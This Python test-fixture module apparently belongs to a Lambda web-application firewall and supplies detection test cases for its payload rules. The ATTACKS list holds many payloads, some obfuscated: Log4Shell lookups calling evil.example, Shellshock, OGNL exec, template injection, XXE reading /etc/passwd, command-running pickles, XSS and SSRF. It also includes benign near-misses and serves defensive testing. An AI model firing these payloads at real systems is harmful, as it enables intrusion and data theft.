"""The shipped payload rules' attack and benign rows, shared by the rule tests, the ReDoS test and the bench.

ATTACKS: (rule id, what, event) that the rule must catch; obfuscated forms are named so. BENIGN: (what,
event) near-misses that no rule of the pack may touch. Events are built with the public testing helpers.
"""
from __future__ import annotations

import base64
import json
import pickle
from typing import Any

from app_protect_lambda.testing import apigw_v1_event, apigw_v2_event

# A 1x1 PNG, as a browser uploads an avatar inside a JSON body.
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")).decode()


class _Runs:
    """What pickle.loads would run: os.system('id'), written as protocol 2 and 4 pickles."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return (os.system, ("id",))


PICKLE_4 = base64.b64encode(pickle.dumps(_Runs(), protocol=4)).decode()
PICKLE_2 = base64.b64encode(pickle.dumps(_Runs(), protocol=2)).decode()
PICKLE_0_TEXT = "cposix\nsystem\n(S'id'\ntR."


def q(value: str, name: str = "q") -> dict[str, Any]:
    return apigw_v1_event(query={name: value})


def header(name: str, value: str) -> dict[str, Any]:
    return apigw_v1_event(headers={name: value})


def ua(value: str) -> dict[str, Any]:
    return apigw_v1_event(headers={"user-agent": value})


def body(value: Any, content_type: str | None = None) -> dict[str, Any]:
    event = apigw_v1_event("POST", body=value)
    if content_type is not None:
        event["headers"]["content-type"] = content_type
        event["multiValueHeaders"]["content-type"] = [content_type]
    return event


def raw_json(text: str) -> dict[str, Any]:
    return body(text, "application/json")


def path(value: str) -> dict[str, Any]:
    return apigw_v2_event(path=value)


def cookie(value: str) -> dict[str, Any]:
    return apigw_v2_event(cookies=[f"session={value}"])


ATTACKS: list[tuple[str, str, dict[str, Any]]] = [
    ("payload.log4shell", "plain", q("${jndi:ldap://evil.example/a}")),
    ("payload.log4shell", "obfuscated: lower lookup", q("${${lower:j}ndi:ldap://evil.example/a}")),
    ("payload.log4shell", "obfuscated: default-value lookups", q("${${::-j}${::-n}di:rmi://evil.example/a}")),
    ("payload.log4shell", "obfuscated: nested k8s lookup in a header",
     header("x-api-version", "${j${k8s:k5:-ND}i:ldap://evil.example/a}")),
    ("payload.log4shell", "obfuscated: upper case", ua("${JNDI:LDAP://evil.example/a}")),
    ("payload.log4shell", "obfuscated: url-encoded", q("%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")),
    ("payload.log4shell", "obfuscated: JSON escape", raw_json('{"name": "\\u0024{jndi:ldap://evil.example/a}"}')),
    ("payload.spring4shell", "form body", body(
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&x=1",
        "application/x-www-form-urlencoded")),
    ("payload.spring4shell", "query parameter name", q("x", "class.module.classLoader.URLs[0]")),
    ("payload.spring4shell", "obfuscated: bracket form", q("x", "class[module][classLoader]")),
    ("payload.shellshock", "User-Agent", ua("() { :; }; /bin/bash -c 'id'")),
    ("payload.shellshock", "obfuscated: any header, no spaces", header("referer", "(){ :;};echo;/bin/id")),
    ("payload.ognl", "Struts Content-Type", header(
        "content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}")),
    ("payload.ognl", "context access", q("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}")),
    ("payload.ognl", "obfuscated: url-encoded member access", q("%25%7B%23_memberAccess%5B%27allow%27%5D%7D")),
    ("payload.ognl", "dollar form", q("${#a=@java.lang.Runtime@getRuntime().exec('id')}")),
    ("payload.template-injection", "Jinja2 dunders", q("{{ ''.__class__.__mro__[1].__subclasses__() }}")),
    ("payload.template-injection", "Jinja2 config", q("{{config.items()}}")),
    ("payload.template-injection", "Mako self", q("${self.module.cache.util.os.system('id')}")),
    ("payload.template-injection", "Twig _self.env", body("{{_self.env.registerUndefinedFilterCallback('exec')}}")),
    ("payload.template-injection", "obfuscated: HTML entities", q("&#123;&#123; config &#125;&#125;")),
    ("payload.template-injection", "probe", q("{{7*7}}")),
    ("payload.xxe", "SYSTEM entity", body('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM '
                                          '"file:///etc/passwd">]><r>&xxe;</r>', "application/xml")),
    ("payload.xxe", "obfuscated: parameter entity, mixed case",
     body('<!DOCTYPE r [<!eNtItY % p PUBLIC "x" "http://evil.example/e.dtd"> %p;]>', "text/xml")),
    ("payload.java-serialized", "base64 body", body("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAK")),
    ("payload.java-serialized", "cookie", cookie("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")),
    ("payload.java-serialized", "hex stream", q("aced00057372001a")),
    ("payload.php-serialized", "query", q('O:8:"stdClass":1:{s:4:"name";s:3:"bob";}')),
    ("payload.php-serialized", "obfuscated: url-encoded cookie", cookie("O%3A4%3A%22User%22%3A0%3A%7B%7D")),
    ("payload.php-serialized", "obfuscated: JSON-escaped quotes",
     raw_json('{"data": "O:4:\\"User\\":1:{s:2:\\"id\\";i:1;}"}')),
    ("payload.pickle", "text body", body(PICKLE_0_TEXT, "text/plain")),
    ("payload.pickle", "obfuscated: JSON string", body({"data": "cos\nsystem\n(S'id'\ntR."})),
    ("payload.pickle-base64", "protocol 4 cookie", cookie(PICKLE_4)),
    ("payload.pickle-base64", "protocol 2 in JSON", body({"state": PICKLE_2})),
    ("payload.pickle-base64", "protocol 0 in base64", q(base64.b64encode(PICKLE_0_TEXT.encode()).decode())),
    ("payload.nosql-operator", "JSON key", body({"user": "admin", "password": {"$ne": None}})),
    ("payload.nosql-operator", "$where", body({"$where": "sleep(1000) || true"})),
    ("payload.nosql-operator", "parameter name", q("x", "password[$ne]")),
    ("payload.nosql-operator", "obfuscated: JSON escape", raw_json('{"password": {"\\u0024gt": ""}}')),
    ("payload.nosql-operator", "$regex", body({"user": {"$regex": "^adm"}})),
    ("payload.prototype-pollution", "JSON key", body({"__proto__": {"admin": True}})),
    ("payload.prototype-pollution", "constructor.prototype in JSON", body({"constructor": {"prototype": {"a": 1}}})),
    ("payload.prototype-pollution", "parameter name", q("1", "constructor[prototype][admin]")),
    ("payload.prototype-pollution", "obfuscated: url-encoded", q("%5F%5Fproto%5F%5F")),
    ("payload.crlf-injection", "decoded newline", q("x\r\nSet-Cookie: admin=1")),
    ("payload.crlf-injection", "obfuscated: encoded", q("x%0d%0aLocation:%20https://evil.example")),
    ("payload.crlf-injection", "obfuscated: bare LF, upper case", header("x-return", "a%0AX-Forwarded-Host: evil")),
    ("payload.xss", "script", q("<script>alert(1)</script>")),
    ("payload.xss", "svg onload", q("<svg/onload=alert(1)>")),
    ("payload.xss", "img onerror", q("<img src=x onerror=alert(1)>")),
    ("payload.xss", "javascript URL", q("javascript:alert(document.cookie)")),
    ("payload.xss", "obfuscated: mixed case, url-encoded", q("%3CScRiPt%3Ealert(1)%3C/script%3E")),
    ("payload.xss", "obfuscated: entity-encoded scheme", body({"link": "jav&#x61;script:fetch('//evil')"})),
    ("payload.path-smuggling", "encoded dots in the path", path("/files/%2e%2e%2f%2e%2e%2fetc/passwd")),
    ("payload.path-smuggling", "matrix parameter", path("/api/..;/admin")),
    ("payload.path-smuggling", "obfuscated: double encoding", q("%252e%252e%252fetc")),
    ("payload.path-smuggling", "obfuscated: overlong UTF-8", path("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")),
    ("payload.protocol-smuggling", "gopher", q("gopher://127.0.0.1:6379/_FLUSHALL")),
    ("payload.protocol-smuggling", "dict", body({"url": "dict://localhost:11211/stats"})),
    ("payload.protocol-smuggling", "obfuscated: url-encoded", q("GOPHER%3A%2F%2F127.0.0.1%3A25")),
    ("payload.scanner-user-agent", "sqlmap", ua("sqlmap/1.7.2#stable (https://sqlmap.org)")),
    ("payload.scanner-user-agent", "nikto", ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
    ("payload.scanner-user-agent", "nuclei", ua("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
    ("payload.scanner-user-agent", "masscan", ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
    ("payload.scanner-user-agent", "zgrab", ua("Mozilla/5.0 zgrab/0.x")),
    ("payload.scanner-user-agent", "wpscan", ua("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
    ("payload.scanner-user-agent", "ffuf", ua("Fuzz Faster U Fool v2.1.0")),
    ("payload.scanner-probe", "interactsh host", q("http://cn3v8p2d.oast.fun/x")),
    ("payload.scanner-probe", "collaborator in a header", header("x-forwarded-host", "abc.burpcollaborator.net")),
    ("payload.scanner-probe", "acunetix marker", path("/acunetix-wvs-test-for-some-inexistent-file")),
]

# Version-gated rules: caught only where the function ships an affected version (the tests pin one).
GATED: list[tuple[str, str, str, dict[str, Any]]] = [
    ("payload.pyyaml-python-tag", "5.3.1", "YAML body",
     body("!!python/object/apply:os.system ['id']", "application/x-yaml")),
    ("payload.pyyaml-python-tag", "5.3.1", "obfuscated: url-encoded tag",
     q("%21%21python%2Fobject%2Fapply%3Aos.system%20%5B%27id%27%5D")),
    ("payload.python-multipart-redos", "0.0.6", "backslash run in the options",
     header("content-type", 'multipart/form-data; boundary=x; a="' + "\\" * 64 + '"')),
    ("payload.python-multipart-redos", "0.0.6", "semicolon run",
     header("content-type", "application/x-www-form-urlencoded" + ";" * 200)),
]

BENIGN: list[tuple[str, dict[str, Any]]] = [
    ("${price} in text", q("The total is ${price} plus ${tax}")),
    ("shell default in text", body("Use ${HOME:-/root} as the default")),
    ("class in prose", q("The class module starts Monday; first-class seats")),
    ("Japanese text", body({"message": "こんにちは、注文番号は１２３です。明日お届けします。", "name": "山田太郎"})),
    ("Japanese query", q("東京都渋谷区 ラーメン 「おすすめ」")),
    ("CMS placeholders", body({"template": "Hello {{name}}, your order {{ order_id }} ships {{ date }}.",
                               "title": "{{ config_title }}"})),
    ("$ in JSON values, not keys", body({"price": "$10", "note": "use $where wisely", "currency": "$ne",
                                         "total": "$gt 5"})),
    ("base64 image in a body", body({"avatar": f"data:image/png;base64,{PNG}", "name": "alice"})),
    ("base64 image as the body", body(PNG, "image/png")),
    ("Python dunder in a blog post", body({"post": "Define __init__ and __repr__ on the class."})),
    ("function call in a header", header("x-note", "f() is { fine }")),
    ("browser User-Agent", ua("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0")),
    ("NucleusApp and python-requests", ua("NucleusApp/1.0 python-requests/2.31")),
    ("a discount with a brace", q("100%{ discount")),
    ("hashtag", q("#context of #life")),
    ("internal XML entity", body('<!DOCTYPE note [<!ENTITY writer "Donald Duck.">]><note>&writer;</note>',
                                 "application/xml")),
    ("hex digest", q("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")),
    ("grades that look serialized", body({"grade": "O:8", "ratio": "C:12"})),
    ("cost and system", body("cost\nsystem design review", "text/plain")),
    ("prototype prose", body({"text": "the prototype of a constructor", "proto": "x"})),
    ("multi-line query", q("line one\nline two: done")),
    ("book title", q("JavaScript: The Good Parts")),
    ("bold markup", body({"html": "<b>bold</b> and <i>it</i>, onerror handling docs"})),
    ("dotted file name", path("/docs/release..notes/v2")),
    ("https link", q("https://example.com/a?b=c")),
    ("toast.fun and interactive.shop", q("toast.fun interactive.shop")),
    ("YAML str tag", body("name: !!str 123\n", "application/x-yaml")),
    ("multipart Content-Type", header("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk")),
    ("email and percent", q("50% off for bob@example.com")),
    ("JSON with escapes", raw_json('{"path": "C:\\\\Users\\\\bob", "quote": "\\"hi\\""}')),
]


def big_benign_json(size: int = 10_240) -> dict[str, Any]:
    """A benign API Gateway request with a JSON body of about ``size`` characters (the bench's 10 kB case)."""
    items = []
    index = 0
    while len(json.dumps(items)) < size - 200:
        items.append({"sku": f"SKU-{index:06d}", "name": f"Item number {index} in the catalogue",
                      "price": f"${index}.99", "qty": index % 7, "tags": ["blue", "cotton", "summer"]})
        index += 1
    return body({"order": {"customer": "Alice Example", "items": items}})
